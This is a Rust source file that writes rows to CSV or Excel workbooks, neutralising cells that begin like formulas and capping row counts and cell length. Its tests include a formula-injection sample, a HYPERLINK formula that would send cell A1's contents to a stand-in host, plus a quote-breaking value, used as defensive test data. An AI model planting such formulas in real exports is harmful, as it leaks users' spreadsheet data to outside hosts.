//! A sheet of rows, as CSV or as a workbook.

use std::borrow::Cow;
use std::io::{self, Write};

use chrono::{NaiveDate, NaiveDateTime};
use rust_xlsxwriter::{Format, Workbook, XlsxError};

use super::Refusal;
use crate::clock;
use crate::text::csv::guard;

/// What stands in a cell.
pub enum Cell<'a> {
    Empty,
    Text(Cow<'a, str>),
    Number(f64),
    Whole(i64),
}

impl<'a> Cell<'a> {
    pub fn text(text: &'a str) -> Cell<'a> {
        Cell::Text(Cow::Borrowed(text))
    }

    pub fn text_if_any(text: Option<&'a str>) -> Cell<'a> {
        text.map_or(Cell::Empty, Cell::text)
    }

    pub fn number_if_any(number: Option<f64>) -> Cell<'a> {
        number.map_or(Cell::Empty, Cell::Number)
    }

    pub fn day_if_any(day: Option<NaiveDate>) -> Cell<'a> {
        day.map_or(Cell::Empty, |day| Cell::Text(Cow::Owned(day.to_string())))
    }

    pub fn time(at: NaiveDateTime) -> Cell<'a> {
        Cell::Text(Cow::Owned(clock::rfc3339(at)))
    }
}

/// Takes rows one after the other, the header first.
pub trait Sheet {
    fn row(&mut self, cells: &[Cell<'_>]) -> Result<(), Refusal>;
}

pub struct CsvSheet<W: Write> {
    out: csv::Writer<W>,
}

impl<W: Write> CsvSheet<W> {
    pub fn new(out: W) -> CsvSheet<W> {
        let out = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(out);
        CsvSheet { out }
    }

    pub fn end(mut self) -> io::Result<()> {
        self.out.flush()
    }
}

impl<W: Write> Sheet for CsvSheet<W> {
    fn row(&mut self, cells: &[Cell<'_>]) -> Result<(), Refusal> {
        for cell in cells {
            let written = match cell {
                Cell::Empty => self.out.write_field(""),
                Cell::Text(text) => self.out.write_field(guard(text).as_bytes()),
                Cell::Number(number) => self.out.write_field(number.to_string()),
                Cell::Whole(number) => self.out.write_field(number.to_string()),
            };
            written.map_err(io::Error::other)?;
        }
        self.out.write_record(None::<&[u8]>).map_err(io::Error::other)?;
        Ok(())
    }
}

/// Writes its rows to a temporary file at once, and the workbook from it at the end.
pub struct XlsxSheet {
    book: Workbook,
    header: Format,
    rows: u32,
}

/// A workbook holds no more.
const MOST_ROWS: u32 = 1_048_576;

impl XlsxSheet {
    pub fn new() -> Result<XlsxSheet, XlsxError> {
        let mut book = Workbook::new();
        book.add_worksheet_with_constant_memory()?;
        Ok(XlsxSheet {
            book,
            header: Format::new().set_bold(),
            rows: 0,
        })
    }

    /// Puts a second sheet behind the rows: what they are, line by line.
    pub fn about(&mut self, lines: &[(String, String)]) -> Result<(), XlsxError> {
        if lines.is_empty() {
            return Ok(());
        }
        let sheet = self.book.add_worksheet();
        sheet.set_name("About")?;
        sheet.set_column_width(0, 24)?;
        sheet.set_column_width(1, 90)?;
        for (row, (name, words)) in (0..).zip(lines) {
            sheet.write_string_with_format(row, 0, cut(name), &self.header)?;
            sheet.write_string(row, 1, cut(words))?;
        }
        Ok(())
    }

    pub fn end(mut self, out: &mut (dyn Write + Send)) -> Result<(), Refusal> {
        let bytes = self.book.save_to_buffer()?;
        out.write_all(&bytes)?;
        Ok(())
    }

    fn write(&mut self, cells: &[Cell<'_>]) -> Result<(), XlsxError> {
        let (row, header) = (self.rows, self.header.clone());
        let sheet = self.book.worksheet_from_index(0)?;
        if row == 0 {
            sheet.set_freeze_panes(1, 0)?;
        }
        for (column, cell) in (0..).zip(cells) {
            match cell {
                Cell::Empty => {}
                Cell::Text(text) if row == 0 => {
                    sheet.write_string_with_format(row, column, text.as_ref(), &header)?;
                }
                // A string is never read as a formula.
                Cell::Text(text) => {
                    sheet.write_string(row, column, cut(text))?;
                }
                Cell::Number(number) => {
                    sheet.write_number(row, column, *number)?;
                }
                Cell::Whole(number) => {
                    sheet.write_number(row, column, *number as f64)?;
                }
            }
        }
        Ok(())
    }
}

impl Sheet for XlsxSheet {
    fn row(&mut self, cells: &[Cell<'_>]) -> Result<(), Refusal> {
        if self.rows == MOST_ROWS {
            return Err(Refusal::TooManyRows);
        }
        self.write(cells)?;
        self.rows += 1;
        Ok(())
    }
}

/// A cell of a workbook holds no longer text.
fn cut(text: &str) -> &str {
    const MOST: usize = 32_767;
    text.char_indices().nth(MOST).map_or(text, |(at, _)| &text[..at])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn csv(cells: &[Cell<'_>]) -> String {
        let mut out = Vec::new();
        let mut sheet = CsvSheet::new(&mut out);
        sheet.row(cells).unwrap();
        sheet.end().unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn text_that_begins_a_formula_is_made_harmless_and_figures_stay() {
        let row = csv(&[
            Cell::text("=HYPERLINK(\"//e.test?\"&A1)"),
            Cell::text("a\",\"=1"),
            Cell::text("-5"),
            Cell::Number(-5.25),
            Cell::Whole(-7),
            Cell::Empty,
        ]);
        assert_eq!(
            row,
            "\"'=HYPERLINK(\"\"//e.test?\"\"&A1)\",\"a\"\",\"\"=1\",'-5,-5.25,-7,\r\n"
        );
    }

    #[test]
    fn figures_go_out_in_full_precision() {
        assert_eq!(
            csv(&[Cell::Number(0.1 + 0.2), Cell::Number(1e-9)]),
            "0.30000000000000004,0.000000001\r\n"
        );
    }
}
